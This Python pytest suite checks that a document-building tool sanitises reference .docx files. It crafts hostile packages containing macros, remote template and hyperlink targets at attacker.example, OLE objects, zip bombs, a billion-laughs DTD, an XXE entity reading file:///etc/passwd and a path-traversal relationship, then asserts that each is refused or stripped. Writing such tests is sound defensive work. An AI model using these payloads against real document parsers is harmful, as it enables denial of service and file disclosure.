"""The reference-document door: only styles, numbering, fonts, theme and settings are taken; macros, external links,
embedded objects and custom XML never reach the draft; zip bombs and DTDs are refused before they cost anything."""

from __future__ import annotations

import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import ROOT, SAMPLE
from doors import assert_consistent, assert_reach, assert_refused, assert_within_budget, run

NAME = SAMPLE.name
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOC_RELS = "word/_rels/document.xml.rels"


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """The default reference document, as `briefing reference-docx` writes it."""
    path = tmp_path_factory.mktemp("reference") / "reference.docx"
    subprocess.run([sys.executable, "-m", "briefing", "reference-docx", str(path)], cwd=ROOT, check=True)
    return path


def rewrite(base: Path, target: Path, change) -> None:
    """Copies the package entry by entry, letting `change(parts)` edit the {name: bytes} mapping (None removes)."""
    with zipfile.ZipFile(base) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    change(parts)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            if data is not None:
                package.writestr(name, data)


def add_relationship(parts, rel: str) -> None:
    parts[DOC_RELS] = parts[DOC_RELS].replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def replace_in(name: str, old: bytes, new: bytes):
    def change(parts):
        assert old in parts[name], old
        parts[name] = parts[name].replace(old, new, 1)
    return change


def macro_enabled(parts):
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    parts["word/vbaProject.bin"] = b"VBA" * 100


def macros_in_docx(parts):
    parts["word/vbaProject.bin"] = b"MACRO-CANARY" * 100
    add_relationship(parts, '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                            'vbaProject" Target="vbaProject.bin"/>')


def attached_template(parts):
    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rIdTpl"/><w:docVars><w:docVar w:name="x" w:val="DOCVAR-CANARY"/>'
                    b"</w:docVars><w:zoom ", 1)
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.'
        b'org/package/2006/relationships"><Relationship Id="rIdTpl" Type="' + R.encode() + b'/attachedTemplate" '
        b'Target="http://attacker.example/TEMPLATE-CANARY.dotm" TargetMode="External"/></Relationships>')


def external_and_embedded(parts):
    parts["word/embeddings/oleObject1.bin"] = b"OLE-CANARY" * 100
    parts["customXml/item9.xml"] = b"<CUSTOM-CANARY/>"
    add_relationship(parts, f'<Relationship Id="rIdX" Type="{R}/hyperlink" Target="http://attacker.example/LINK-CANARY"'
                            ' TargetMode="External"/>'
                            f'<Relationship Id="rIdO" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>'
                            f'<Relationship Id="rIdC" Type="{R}/customXml" Target="../customXml/item9.xml"/>')


def embedded_font(parts):
    parts["word/fontTable.xml"] = parts["word/fontTable.xml"].replace(
        b"</w:font>", b'<w:embedRegular r:id="rIdF" w:fontKey="{00000000-0000-0000-0000-000000000000}"/></w:font>', 1)
    parts["word/fonts/font1.odttf"] = b"FONT-CANARY" * 100


def styles_as_external(parts):
    assert b'Target="styles.xml"' in parts[DOC_RELS]
    parts[DOC_RELS] = parts[DOC_RELS].replace(b'Target="styles.xml"',
                                              b'Target="http://attacker.example/s.xml" TargetMode="External"')


def styles_outside(parts):
    parts[DOC_RELS] = parts[DOC_RELS].replace(b'Target="styles.xml"', b'Target="../../../etc/passwd"')


def bomb_unread(parts):
    parts["word/media/bomb.bin"] = b"\0" * (200 * 1024 * 1024)


def bomb_styles(parts):
    parts["word/styles.xml"] = parts["word/styles.xml"].replace(b"<w:docDefaults>", b" " * (40 * 1024 * 1024)
                                                                 + b"<w:docDefaults>", 1)


def many_entries(parts):
    for index in range(2100):
        parts[f"word/media/x{index}.bin"] = b"x"


def with_doctype(entity: bytes):
    def change(parts):
        body = parts["word/styles.xml"].split(b"?>", 1)[1]
        parts["word/styles.xml"] = b'<?xml version="1.0"?>' + entity + body.replace(
            b"<w:docDefaults>", b"<w:docDefaults>&e;", 1)
    return change


LAUGHS = (b'<!DOCTYPE w:styles [<!ENTITY a "lollollollollollollollollol">' + b"".join(
    b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&" + bytes([97 + i]) + b";") * 10) for i in range(8))
    + b'<!ENTITY e "&i;">]>')


def heading_as_character_style(parts):
    parts["word/styles.xml"] = re.sub(rb'<w:style w:type="paragraph" w:styleId="Heading1">',
                                      rb'<w:style w:type="character" w:styleId="Heading1">', parts["word/styles.xml"])


def bad_numbering_ids(parts):
    parts["word/numbering.xml"] = parts["word/numbering.xml"].replace(
        b"</w:numbering>", b'<w:abstractNum w:abstractNumId="x"/><w:num w:numId="99999999999"><w:abstractNumId '
                           b'w:val="0"/></w:num></w:numbering>')


def theme_with_picture(parts):
    parts["word/theme/theme1.xml"] = parts["word/theme/theme1.xml"].replace(
        b"<a:fillStyleLst>", b'<a:fillStyleLst><a:blipFill><a:blip r:embed="rIdP" xmlns:r="' + R.encode()
                             + b'"/></a:blipFill>', 1)


def as_file(data: bytes):
    def make(base: Path, target: Path) -> None:
        target.write_bytes(data)
    return make


def built(change):
    def make(base: Path, target: Path) -> None:
        rewrite(base, target, change)
    return make


def fifo(base: Path, target: Path) -> None:
    os.mkfifo(target)


def sparse(base: Path, target: Path) -> None:
    with open(target, "wb") as handle:
        handle.truncate(40 * 1024 * 1024)


def duplicate_entry(base: Path, target: Path) -> None:
    rewrite(base, target, lambda parts: None)
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(target, "a") as package:
            package.writestr("word/styles.xml", b"<w:styles/>")


# (id, maker, refused pattern or None (builds), canaries that must not reach the draft)
CANARIES = ("MACRO-CANARY", "DOCVAR-CANARY", "TEMPLATE-CANARY", "LINK-CANARY", "OLE-CANARY", "CUSTOM-CANARY",
            "FONT-CANARY", "attacker.example", "vbaProject", "attachedTemplate", 'TargetMode="External"')
CASES = [
    ("docm", built(macro_enabled), r"macro-enabled document \(\.docm\)"),
    ("macros-in-docx", built(macros_in_docx), None),
    ("attached-template-and-docvars", built(attached_template), None),
    ("external-link-embedded-object-customxml", built(external_and_embedded), None),
    ("embedded-font", built(embedded_font), None),
    ("theme-picture-fill", built(theme_with_picture), None),
    ("heading-as-character-style", built(heading_as_character_style), None),
    ("numbering-ids-not-numbers", built(bad_numbering_ids), None),
    ("bomb-in-a-part-never-read", built(bomb_unread), None),
    ("bomb-in-styles", built(bomb_styles), r"word/styles\.xml (inflates to|is compressed more than)"),
    ("too-many-entries", built(many_entries), r"entries in the archive; at most 2,000"),
    ("duplicate-entry", duplicate_entry, r"two entries of the same name"),
    ("billion-laughs", built(with_doctype(LAUGHS)), r"word/styles\.xml declares a DTD"),
    ("external-entity", built(with_doctype(b'<!DOCTYPE w:styles [<!ENTITY e SYSTEM "file:///etc/passwd">]>')),
     r"word/styles\.xml declares a DTD"),
    ("broken-xml", built(replace_in("word/styles.xml", b"</w:styles>", b"</w:style")), r"not well-formed XML"),
    ("bidi-in-numbering", built(replace_in("word/numbering.xml", b'w:lvlText w:val="', b'w:lvlText w:val="\xe2\x80\xae')),
     r"word/numbering\.xml: <lvlText>: character U\+202E would reorder"),
    ("bad-alignment", built(replace_in("word/styles.xml", b'<w:jc w:val="center"/>', b'<w:jc w:val="sideways"/>')),
     r"style '.*' cannot be used"),
    ("styles-external", built(styles_as_external), r"not a Word document with styles"),
    ("styles-outside-package", built(styles_outside), r"a relationship points outside the package"),
    ("no-styles", built(lambda parts: parts.update({"word/styles.xml": None})), r"has no word/styles\.xml"),
    ("not-a-zip", as_file(b"PK\x03\x04 but not really a zip"), r"not a Word document with styles \(\.docx\)"),
    ("text-file", as_file(b"hello\n"), r"not a Word document with styles"),
    ("pipe", fifo, r"is a pipe, not a regular file"),
    ("over-the-cap", sparse, r"larger than 32 MiB"),
]


@pytest.mark.parametrize("case", CASES, ids=[c[0] for c in CASES])
def it_takes_only_styles_from_a_reference_document(case, base, tmp_path):
    name, make, refused = case
    reference = tmp_path / "styles.docx"
    make(base, reference)
    out = tmp_path / "out"
    outcome = run("build", str(SAMPLE), "-l", "en", "-f", "docx", "-o", str(out), "--reference-docx", str(reference))
    assert_reach(outcome, SAMPLE, out, reference)
    assert_consistent(out)
    if refused is not None:
        assert_refused(outcome, re.escape(str(reference)) + r":1: reference document: .*" + refused)
        assert not out.exists() or not any(out.iterdir())
        return
    assert_within_budget(outcome)
    assert outcome.status == 0, outcome.stderr
    draft = out / f"{NAME}.en.docx"
    with zipfile.ZipFile(draft) as package:
        names = package.namelist()
        everything = b"".join(package.read(n) for n in names).decode("utf-8", "replace")
    assert not [n for n in names if re.search(r"vbaProject|embeddings/|fonts/|media/|item9", n)], names
    assert not [c for c in CANARIES if c in everything]
    import docx

    document = docx.Document(str(draft))
    assert document.styles["Heading 1"].type == 1  # a paragraph style, whatever the reference said
    assert [p.style.name for p in document.paragraphs if p.text == "Summary"] == ["TOC 1", "Heading 1"]


def they_cover_the_reference_door_with_ten_cases_or_more():
    assert len(CASES) >= 10


def it_keeps_the_reference_styles_it_takes(base, tmp_path):
    """The sanitizing keeps what a reference is for: a restyled Heading 1 reaches the draft."""
    reference = tmp_path / "styles.docx"
    rewrite(base, reference, replace_in("word/styles.xml", b'w:styleId="Heading1">', b'w:styleId="Heading1">'
                                        b'<w:rPr><w:color w:val="128012"/></w:rPr>'))
    out = tmp_path / "out"
    outcome = run("build", str(SAMPLE), "-l", "en", "-f", "docx", "-o", str(out), "--reference-docx", str(reference))
    assert outcome.status == 0, outcome.stderr
    with zipfile.ZipFile(out / f"{NAME}.en.docx") as package:
        styles = package.read("word/styles.xml").decode("utf-8")
    heading = re.search(r'<w:style w:type="paragraph" w:styleId="Heading1">.*?</w:style>', styles, re.S).group(0)
    assert "128012" in heading
